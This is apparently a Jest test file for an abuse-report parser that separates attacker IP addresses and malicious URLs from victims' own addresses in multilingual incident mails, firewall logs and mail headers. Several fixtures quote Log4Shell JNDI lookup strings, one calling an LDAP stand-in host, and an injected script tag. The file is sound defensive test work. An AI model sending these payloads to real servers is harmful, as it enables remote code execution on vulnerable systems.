import { describe, expect, it } from '@jest/globals';
import { mailOf, observablesIn, partOf } from '../../test/mailed-words.js';

/** Addresses and links that a mail of `noc@school.example.net` with these texts reports. */
function reported(...texts: string[]): string[] {
  const mail = mailOf({ subject: 'report', from: { address: 'noc@school.example.net', name: '' } });
  const parts = texts.map((text, at) => partOf(text, { path: `body-${at}`, name: at === 0 ? '' : 'log.txt', mail }));
  const observables = observablesIn(...parts);
  return observables.filter(({ kind }) => /^(?:ip|url)/.test(kind)).map(({ value }) => value);
}

describe('telling whose an address is', () => {
  it.each([
    ['a label at the start of its line', '受害主機：某大學 203.0.113.5\nIP：192.0.2.7'],
    [
      'words of the line above that run on',
      `We have seen many attempts to log in to our mail\nserver 203.0.113.5, they came from 192.0.2.7`,
    ],
    ['the name of what stands in front', 'Front end 203.0.113.5, attacked by 192.0.2.7'],
    ['who sent a form', 'Attacker address: 192.0.2.7\nSubmitted from: 203.0.113.5\n提交IP: 203.0.113.6'],
    ['what is affected by somebody else', 'Attacker address: 192.0.2.7\nAffected system: 203.0.113.5'],
    ['Greek', 'Σύνδεση από τη διεύθυνση 192.0.2.7 προς διακομιστές (προορισμός 203.0.113.5)'],
    ['Russian', 'Атака с 192.0.2.7 на информационный ресурс www.example.com (203.0.113.5)'],
    ['whose network it is', '192.0.2.7 scans us.\n203.0.113.0/24 is our campus network.'],
    [
      'the request that somebody made',
      'GET /?x=${jndi:dns} HTTP/1.1\nHost: 203.0.113.5:80\n\nThis came from 192.0.2.7',
    ],
    ['that it was dealt with', 'The customer of 203.0.113.5 has been suspended, but 192.0.2.7 goes on.'],
  ])('by %s', (_, text) => {
    expect(reported(text)).toEqual(['192.0.2.7']);
  });

  it('by its place behind another one in a log', () => {
    const log = 'Oct 11 10:02:11 filterlog[4120]: 5,,,10,igb0,match,block,in,4,tcp,40,192.0.2.7,203.0.113.5,441,3389';
    expect(reported(`Our firewall 203.0.113.5 sees:\n\n${log}\n`)).toEqual(['192.0.2.7']);
  });

  it('by its neighbours that were hit', () => {
    const log = (from: string, to: string) =>
      `10/11/2026-11:02:19.331 [**] [1:5:5] ET SCAN [**] {TCP} ${from}:5031 -> ${to}:80`;
    expect(reported(`${log('192.0.2.7', '203.0.113.5')}\n${log('203.0.113.9', '198.51.100.53')}\n`)).toEqual([
      '192.0.2.7',
    ]);
  });

  it('keeps the source of a request beside what the request brings along', () => {
    const log =
      'date=2026-10-11 time=23:51:07 srcip=192.0.2.7 dstip=203.0.113.5 url="/?x=${jndi:ldap://198.51.100.9:1389/a}"';
    expect(reported(log)).toEqual(['192.0.2.7', 'ldap://198.51.100.9:1389/a', '198.51.100.9']);
  });

  it('by the field of a web mailer rather than by the server that passed its mail on', () => {
    const head =
      'Return-Path: <a@hit.example.com>\nReceived: from mail.hit.example.com ([203.0.113.5]) by mx.school.example.net; Sat, 21 Nov 2026 11:00:00 +0100\n' +
      'X-Originating-IP: [192.0.2.7]\nFrom: a@hit.example.com\nSubject: Invoice\n\nSee the invoice.';
    expect(reported(`This spam was sent from a stolen account.\n\n${head}`)).toEqual(['192.0.2.7']);
  });

  it('takes an affected system for what is reported where nobody acted', () => {
    expect(reported('Affected IP: 192.0.2.7\nDetected: 2026-06-01')).toEqual(['192.0.2.7']);
  });

  it('looks through mails that only name a place of whoever forwards them', () => {
    const head = (from: string) => `-----Original Message-----\nFrom: ${from}\nSent: 1 Jan\nSubject: attack\n\n`;
    const text = `Please handle.\n\n${head('a@lab.example.com')}Our server is 203.0.113.5.\n\n${head('b@firm.example.com')}These hosts attack:\n192.0.2.7\n`;
    expect(reported(text)).toEqual(['192.0.2.7']);
  });
});

describe('telling whose a page is', () => {
  it.each([
    [
      'on whose behalf somebody writes',
      'We represent Some Bank (site: https://www.bank.example.com) and ask to close https://bank.example.org/a',
    ],
    [
      'that a redirect leads to it',
      'Situs korban : https://city.example.com/a\nSitus tujuan : https://bank.example.org/a',
    ],
    [
      'what comes last in a heading',
      '有人仿冒我酒店官网，假网址是：\nhttps://bank.example.org/a\n真的网址：https://www.hotel.example.com/',
    ],
    [
      'a ticket in angle brackets',
      'Bad: https://bank.example.org/a\nTicket: <URL: https://rt.school.example.net/Ticket/1 >',
    ],
    [
      'an answer above what it quotes',
      'Now it is at https://bank.example.org/a\n\nOn 1 Jan, we wrote:\n> URL: https://bank.example.com/a',
    ],
    [
      'a heading, which says nothing of a name below the letter',
      'See the list of malicious links: https://bank.example.org/a\n\nSchool links\nwww.school.example.net',
    ],
  ])('by %s', (_, text) => {
    expect(reported(text)).toEqual(['https://bank.example.org/a']);
  });

  it('reports the site of whoever writes where it was broken into', () => {
    expect(reported('我校网站被黑了，网站地址 http://www.school.example.net/a.html ，服务器 192.0.2.7。')).toEqual([
      '192.0.2.7',
      'http://www.school.example.net/a.html',
    ]);
  });

  it('takes what is called harmful right behind it, and what is disguised elsewhere', () => {
    const text =
      'Pages: http://a.example.org/x (compromised), b[.]example.org <http://b.example.org/y>\npayload hxxp://c.example.org/z\nOur text: http://d.example.com/';
    expect(reported(text)).toEqual(['http://c.example.org/z', 'http://a.example.org/x', 'http://b.example.org/y']);
  });

  it('reads an address with a path as a page', () => {
    expect(reported('panel: 192.0.2[.]7:8888/login')).toEqual(['192.0.2.7', 'http://192.0.2.7:8888/login']);
    expect(reported('Attack from 192.0.2.7/443 and 192.0.2.8/tcp.')).toEqual(['192.0.2.7', '192.0.2.8']);
  });

  it('finds nothing in a mail that names no more than the front page of its writer', () => {
    expect(reported('We got your mail and will answer soon. http://www.school.example.net')).toEqual([]);
  });

  it('reads a script that a page was made to load', () => {
    expect(reported('The page loads this:\n<script src="http://bad.example.org/go.js"></script>')).toEqual([
      'http://bad.example.org/go.js',
    ]);
  });
});
